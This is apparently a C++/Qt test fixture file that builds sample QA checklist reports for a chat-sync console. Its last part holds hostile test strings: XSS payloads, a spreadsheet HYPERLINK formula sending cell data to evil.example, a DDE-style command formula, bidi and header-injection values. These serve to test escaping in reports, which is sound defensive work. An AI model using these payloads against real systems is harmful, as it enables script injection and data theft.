// SPDX-License-Identifier: MIT
#include "tests/core/report/samplechecklist.h"

using namespace Qt::Literals::StringLiterals;

namespace chatsync::test {

namespace {

QDateTime at(int hour, int minute, int second, int day = 22)
{
    return {QDate{2026, 11, day}, QTime{hour, minute, second}, Qt::UTC};
}

QUuid runId(int number)
{
    return QUuid::createUuidV5(QUuid{}, u"run %1"_s.arg(number));
}

CheckEvidence seen(CheckEvidence::Kind kind, CheckVerdict verdict, const QString &sentence, int exchange = 0,
                   const QDateTime &when = at(14, 33, 2))
{
    return {.kind = kind,
            .speaksFor = verdict,
            .sentence = sentence,
            .run = runId(1305),
            .exchange = exchange,
            .at = when};
}

CheckResult passed(const QString &id, const QString &title, const QString &summary, int ms, int run = 0)
{
    CheckResult check;
    check.id = id;
    check.title = title;
    check.passesWhen = u"The channel has every participant as a member, each with the role of its kind."_s;
    check.summary = summary;
    check.verdict = CheckVerdict::Passed;
    check.startedAt = at(14, 31, 46);
    check.duration = std::chrono::milliseconds{ms};
    check.evidence = {seen(CheckEvidence::Kind::Channel, CheckVerdict::Passed,
                           u"StreamChat: the channel exists, with all its members"_s, 7),
                      seen(CheckEvidence::Kind::Participant, CheckVerdict::Passed,
                           u"Roles: 2 users “user”, 1 company “admin”"_s, 8),
                      seen(CheckEvidence::Kind::CleanUp, CheckVerdict::Passed,
                           u"Cleaned up: 2 objects removed, read back"_s, 9)};
    if (run > 0)
        check.runs = {runId(run)};
    return check;
}

Exchange refusedExchange()
{
    Exchange exchange;
    exchange.number = 4;
    exchange.endpoint = u"to the backend"_s;
    exchange.method = u"POST"_s;
    exchange.url = u"https://api.staging.onecrew.example/conversations"_s;
    exchange.requestHeaders = {{"Authorization", "Bearer [secret: backend token]"}, {"Accept", "*/*"}};
    exchange.requestBody =
        R"({"conversation_type":"direct","participant_ids":["5b0e93d4-7a16-4c2f-9e80-3d6f21b8a1c7"],"name":"QA Probe"})";
    exchange.status = 500;
    exchange.httpVersion = u"HTTP/1.1"_s;
    exchange.responseHeaders = {{"Content-Type", "application/json"}};
    exchange.responseBody =
        R"({"success":false,"error":"Failed to add all members to channel. Missing: onecrew_user_5b0e93d4-7a16-4c2f-9e80-3d6f21b8a1c7. This usually means these users don't exist in StreamChat yet."})";
    exchange.durationMs = 1620;
    exchange.writes = true;
    exchange.error = ExchangeError{.kind = u"api"_s,
                                   .status = 500,
                                   .missingIds = {u"onecrew_user_5b0e93d4-7a16-4c2f-9e80-3d6f21b8a1c7"_s}};
    return exchange;
}

CheckResult newUserFailed()
{
    CheckResult check = passed(u"new-user"_s, u"Create a conversation with a new user"_s,
                               u"1 member missing: the new user does not exist in StreamChat"_s, 1620, 1305);
    check.verdict = CheckVerdict::Failed;
    check.cause = u"never-synced"_s;
    check.why = u"The backend wrote the new user as a company, then asked for the channel with the user id. "
                u"Its retry "
                "did not fire."_s;
    check.next = {u"Let the backend look the participant up in the users table first."_s,
                  u"Let its retry fire on StreamChat's own wording, “don't exist”."_s};
    check.evidence = {seen(CheckEvidence::Kind::Row, CheckVerdict::Passed, u"Database: the user exists"_s),
                      seen(CheckEvidence::Kind::Exchange, CheckVerdict::Failed,
                           u"StreamChat: no onecrew_user_5b0e93d4…a1c7"_s, 6, at(14, 33, 4)),
                      seen(CheckEvidence::Kind::Exchange, CheckVerdict::Recovered,
                           u"StreamChat: onecrew_company_5b0e93d4…a1c7 exists instead"_s, 7, at(14, 33, 4)),
                      seen(CheckEvidence::Kind::CleanUp, CheckVerdict::Passed,
                           u"Cleaned up: 2 objects removed"_s, 9, at(14, 33, 5))};
    check.exchanges = {refusedExchange()};
    check.note = u"Seen by two testers, on two machines."_s;
    return check;
}

struct Reason {
    CheckVerdict verdict;
    QString cause;
    QString summary;
    QString why;
};

const std::vector<Reason> &reasons()
{
    static const std::vector<Reason> list{
        {CheckVerdict::Failed, u"never-synced"_s,
         u"1 member missing: the new user does not exist in StreamChat"_s,
         u"The backend asked for the channel before the user was in StreamChat, and did not retry."_s},
        {CheckVerdict::Failed, u"wrong-role"_s, u"The company has the role “user”"_s,
         u"The backend sent no role for companies, so StreamChat gave them its default."_s},
        {CheckVerdict::Failed, u"log-order"_s, u"The channel was created 0.3 s after the upsert"_s,
         u"The backend does not wait the second that StreamChat needs."_s},
        {CheckVerdict::Blocked, u"rate-limited"_s, u"StreamChat's limit was reached"_s,
         u"Another program used up the minute's requests of this app."_s}};
    return list;
}

CheckResult cell(const QString &id, const QString &title, int company)
{
    CheckResult check =
        passed(id, title, u"2 of 2 members, roles right"_s, 1900 + company % 200, 2000 + company);
    check.evidence.resize(1);
    return check;
}

void apply(CheckResult &check, const Reason &reason)
{
    check.verdict = reason.verdict;
    check.cause = reason.cause;
    check.summary = reason.summary;
    check.why = reason.why;
    check.next = {u"Sync the user, and run the cell again."_s};
    check.evidence.front().speaksFor = reason.verdict;
}

QString companyName(int number)
{
    static const QStringList first{u"Nordlys"_s,  u"Coral"_s, u"Baltic"_s,  u"Quayside"_s,
                                   u"Meridian"_s, u"Cape"_s,  u"Harbour"_s, u"Lagoon"_s,
                                   u"Jutland"_s,  u"Ağrı"_s,  u"Łódź"_s,    u"東京"_s};
    static const QStringList second{u"Maritime"_s, u"Crewing"_s, u"Academy"_s, u"Shipping and Recruiting"_s,
                                    u"Works"_s};
    const QString name = first[number % first.size()] + u' ' + second[number % second.size()];
    return number < 60 ? name : name + u" %1"_s.arg(number);
}

const QList<std::pair<QString, QString>> &scenarios()
{
    static const QList<std::pair<QString, QString>> list{
        {u"existing"_s, u"Existing"_s},   {u"new-user"_s, u"New user"_s},   {u"two-users"_s, u"Two users"_s},
        {u"company"_s, u"Company"_s},     {u"once-more"_s, u"Once more"_s}, {u"log-order"_s, u"Log order"_s},
        {u"all-exist"_s, u"All exist"_s}, {u"roles"_s, u"Roles"_s}};
    return list;
}

CompanyResult company(int number, bool allFailed)
{
    CompanyResult result;
    result.id = QUuid::createUuidV5(QUuid{}, u"company %1"_s.arg(number)).toString(QUuid::WithoutBraces);
    result.name = companyName(number);
    result.newlyApproved = number % 17 == 0;
    for (int i = 0; i < scenarios().size(); ++i) {
        CheckResult check = cell(scenarios()[i].first, scenarios()[i].second, number);
        const int dice = (number * 31 + i * 7) % 97;
        if (allFailed)
            apply(check, reasons()[0]);
        else if (dice < 4)
            apply(check, reasons()[static_cast<std::size_t>(dice)]);
        else if (dice == 5)
            check.verdict = CheckVerdict::Recovered;
        else if (dice == 6 || dice == 7)
            check.verdict = CheckVerdict::NotApplicable;
        check.recoveredIsPass = true;
        result.cells.push_back(check);
    }
    return result;
}

} // namespace

ChecklistResult sampleChecklist()
{
    ChecklistResult result;
    result.id = QUuid{u"7c410e9a-55aa-4c1d-8a36-2f1f6f0f9e11"_s};
    result.checklist = u"OneCrew chat"_s;
    result.version = u"3"_s;
    result.environment = u"OneCrew Staging"_s;
    result.environmentKind = u"staging"_s;
    result.streamUrl = u"https://chat.stream-io-api.com"_s;
    result.database = u"postgresql://reader@db.staging.onecrew.example/onecrew"_s;
    result.target = u"backend"_s;
    result.build = u"Backend 2.18.0-rc.3"_s;
    result.tester = u"R. Lindqvist"_s;
    result.signedOffAt = at(14, 41, 0);
    result.dataSet = u"412 companies, 99,588 users"_s;
    result.services = {u"PostgreSQL 15.6"_s, u"StreamChat API v1"_s};
    result.consoleVersion = u"1.4.0"_s;
    result.startedAt = at(14, 31, 46);
    result.endedAt = at(14, 33, 52);
    result.cleanUp = u"29 objects were removed, and read back as gone."_s;

    CheckResult any =
        passed(u"any-company"_s, u"Create a conversation from any company"_s,
               u"12 of 412 companies in a stratified sample: 11 passed, 1 on the second attempt"_s, 31400);
    any.verdict = CheckVerdict::Recovered;
    any.recoveredIsPass = true;
    for (int i = 0; i < 12; ++i)
        any.runs << runId(1293 + i);
    result.checks = {passed(u"sat-education"_s, u"Create a conversation from “Sat Education”"_s,
                            u"Channel messaging:onecrew_8f21c4a0, 3 of 3 members, roles right"_s, 1980, 1291),
                     passed(u"lolo-academy"_s, u"Create a conversation from “Lolo Academy”"_s,
                            u"Channel messaging:onecrew_77ab02e9, 3 of 3 members, roles right"_s, 1970, 1292),
                     any,
                     newUserFailed(),
                     passed(u"existing-user"_s, u"Create a conversation with an existing user"_s,
                            u"Jonas Weber, 2 of 2 members, roles right"_s, 2020, 1306),
                     passed(u"log"_s, u"The backend’s log shows “All users upserted successfully”"_s,
                            u"15 of 15 created conversations, lines in the expected order"_s, 210),
                     passed(u"roles"_s, u"All users exist in StreamChat with the correct roles"_s,
                            u"37 members of the created conversations compared, 37 match"_s, 380)};
    return result;
}

ChecklistResult lastChecklist()
{
    ChecklistResult result = sampleChecklist();
    result.id = QUuid{u"11111111-55aa-4c1d-8a36-2f1f6f0f9e11"_s};
    result.build = u"rc.2"_s;
    result.startedAt = at(9, 0, 0, 19);
    result.endedAt = at(9, 2, 0, 19);
    result.checks[3].verdict = CheckVerdict::Passed;
    result.checks[4].verdict = CheckVerdict::Failed;
    return result;
}

ChecklistResult sweptChecklist(int companies)
{
    ChecklistResult result = sampleChecklist();
    for (const auto &[id, title] : scenarios())
        result.scenarios << title;
    for (int i = 0; i < companies; ++i)
        result.companies.push_back(company(i, false));
    return result;
}

ChecklistResult failedChecklist(int companies)
{
    ChecklistResult result = sweptChecklist(0);
    for (CheckResult &check : result.checks) {
        const QString title = check.title;
        const QString id = check.id;
        check = newUserFailed();
        check.title = title;
        check.id = id;
    }
    for (int i = 0; i < companies; ++i)
        result.companies.push_back(company(i, true));
    return result;
}

QStringList hostileTexts()
{
    return {u"<script>alert(1)</script>"_s,
            u"\"><img src=x onerror=alert(1)>"_s,
            u"</style></title><svg onload=alert(1)>"_s,
            u"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"_s,
            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
            u"| a | `b` | [x](javascript:alert(1)) ![i](http://evil.example/i.png)"_s,
            u"``` \n# heading\n<!-- -->"_s,
            u"]]> &amp; &lt; %1 %2 %n"_s,
            u"مرحبا بالعالم שלום"_s,
            u"\u202Eevil\u202C \u2066x\u2069"_s,
            u"👩‍👩‍👧 🏴‍☠️ 東京"_s,
            u"line\r\nbreak\ttab\0nul\007bell\033[31m\uFFFE\uFFFF"_s + QChar{0xd800}};
}

ChecklistResult hostileChecklist()
{
    ChecklistResult result = sampleChecklist();
    const QStringList texts = hostileTexts();
    const QString all = texts.join(u' ');
    result.checklist = result.environment = result.build = result.tester = result.dataSet = all;
    result.streamUrl = result.database = result.cleanUp = result.consoleVersion = all;
    result.services = texts;
    result.environmentKind = u"\"><script>"_s;
    result.scenarios = {texts[0], texts[5]};
    result.checks.clear();
    for (int i = 0; i < texts.size(); ++i) {
        CheckResult check = newUserFailed();
        check.id = texts[i];
        check.title = texts[i];
        check.passesWhen = check.summary = check.why = check.note = check.cause = texts[i];
        check.next = texts;
        check.known = KnownIssue{.ticket = i % 2 == 0 ? u"javascript:alert(1)"_s
                                                      : u"https://evil.example/\" onclick=\"x"_s,
                                 .check = texts[i]};
        for (CheckEvidence &evidence : check.evidence)
            evidence.sentence = evidence.detail = evidence.subject = texts[i];
        Exchange &exchange = check.exchanges.front();
        exchange.url = exchange.method = exchange.endpoint = exchange.httpVersion = texts[i];
        exchange.responseBody = texts[i].toUtf8() + "{\"a\":\"<script>\"" + QByteArray{"\0\xff\xfe", 3};
        exchange.requestBody = "{\"<b>\":\"" + texts[i].toUtf8() + "\"}";
        exchange.responseHeaders = {{"Content-Type", "text/html\r\n<script>"}, {"Location", "\xff\xfe<b>"}};
        exchange.error->missingIds = {texts[i], QString{}, u"("_s, u"."_s};
        result.checks.push_back(check);
    }
    for (int i = 0; i < texts.size(); ++i) {
        CompanyResult company;
        company.id = company.name = texts[i];
        CheckResult cell = result.checks[static_cast<std::size_t>(i)];
        cell.exchanges.clear();
        // More cells than there are columns, and fewer.
        company.cells.assign(static_cast<std::size_t>(i % 4), cell);
        result.companies.push_back(company);
    }
    return result;
}

} // namespace chatsync::test
